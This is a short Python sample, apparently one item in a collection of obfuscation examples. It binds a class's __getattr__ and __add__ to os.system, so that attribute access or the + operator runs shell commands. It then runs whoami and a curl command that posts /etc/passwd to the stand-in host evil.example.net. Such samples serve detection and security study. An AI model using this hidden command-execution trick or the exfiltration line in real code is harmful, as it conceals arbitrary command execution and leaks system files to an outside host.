# corpus: class __getattr__ and __add__ bound directly to os.system so attribute access or + runs commands
import os

class Shell:
    __getattr__ = os.system
    __add__ = os.system

sh = Shell()
sh.whoami
sh + "curl -s -d @/etc/passwd http://evil.example.net/u"
